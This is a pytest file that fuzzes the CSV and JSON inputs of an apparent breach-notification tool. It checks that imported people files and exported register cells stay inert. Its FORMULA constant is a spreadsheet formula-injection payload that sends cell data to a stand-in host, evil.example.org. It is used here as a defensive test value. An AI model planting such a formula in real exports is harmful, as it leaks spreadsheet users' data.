"""Hypothesis fuzzing of every input (the quick version of bench/fuzz.py, which runs >= 10,000 examples)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from bench import fuzz
from breach.exceptions import InvalidPeopleFile
from breach.people.importer import read_people
from breach.people.rows import PersonIn, RowProblem
from notices.register.entries import write_register_csv

EXAMPLES = {"facts_arbitrary": 200, "facts_near_valid": 200, "people_file": 200, "register_csv": 100, "manifest_csv": 100,
            "people_file_db": 100}


def _run(name: str, folder: Path, db=None) -> dict:
    strategy, check = fuzz.targets(folder, db)[name]
    report = fuzz.run_target(strategy, check, EXAMPLES[name])
    assert report["failure"] is None, report["failure"]
    assert report["examples"] >= EXAMPLES[name] // 2
    return report["outcomes"]


def test_arbitrary_json_and_bytes_give_only_invalid_facts(tmp_path):
    assert _run("facts_arbitrary", tmp_path)["invalid"] > 0


def test_near_valid_facts_give_only_invalid_facts_or_facts(tmp_path):
    outcomes = _run("facts_near_valid", tmp_path)
    assert outcomes["invalid"] > 0 and outcomes["valid"] > 0  # the mutations reach both sides


def test_people_files_give_only_rows_problems_or_a_refusal(tmp_path):
    outcomes = _run("people_file", tmp_path)
    assert outcomes["refused"] > 0 and outcomes["rows"] > 0


@pytest.mark.integration
def test_a_refused_people_file_leaves_the_database_unchanged(tmp_path):
    outcomes = _run("people_file_db", tmp_path, fuzz.FuzzDatabase(tmp_path))
    assert outcomes["refused"] > 0 and outcomes["accepted"] > 0


def test_register_csv_cells_are_inert(tmp_path):
    assert _run("register_csv", tmp_path)["inert"] > 0


def test_letter_manifest_cells_are_inert(tmp_path):
    assert _run("manifest_csv", tmp_path)["inert"] > 0


FORMULA = '=HYPERLINK("http://evil.example.org/?leak="&A1,"Click")'


def test_a_formula_injection_people_file_is_read_without_surprises(tmp_path):
    path = tmp_path / "people.csv"
    rows = [["name", "language", "email", "city"], [FORMULA, "da", "a@example.org", "@SUM(1)"], ["Bo", FORMULA, "", ""],
            ["Cy", "en", FORMULA, ""], ["x" * 70_000, "da", "", ""]]
    with open(path, "w", newline="", encoding="utf-8-sig") as handle:
        csv.writer(handle).writerows(rows)
    items = list(read_people(path, index_key=b"k" * 32))
    assert [type(i).__name__ for i in items if isinstance(i, PersonIn)] == ["PersonIn"]
    codes = [(i.line, i.column, str(i.code)) for i in items if isinstance(i, RowProblem)]
    assert (3, "language", "invalid_language") in codes and (4, "email", "invalid_email") in codes
    assert any(line == 5 for line, _, _ in codes)
    assert all(FORMULA not in str(i) for i in items if isinstance(i, RowProblem))  # problems never echo values


def test_a_utf16_people_file_is_refused_whole(tmp_path):
    path = tmp_path / "people.csv"
    path.write_bytes("name,language\nÅse,nb\n".encode("utf-16"))
    with pytest.raises(InvalidPeopleFile, match="UTF-16"):
        list(read_people(path))


def test_a_register_with_formula_text_writes_it_inert(tmp_path):
    path = tmp_path / "register.csv"
    write_register_csv([{"incident_id": "BR-2026-0001", "summary": FORMULA, "effects": "+1", "measures_taken": ["-2", "@x"]}], path)
    with open(path, newline="", encoding="utf-8-sig") as handle:
        row = dict(zip(*csv.reader(handle), strict=True))
    assert row["summary"] == "'" + FORMULA and row["effects"] == "'+1" and row["measures_taken"].startswith("'-2")
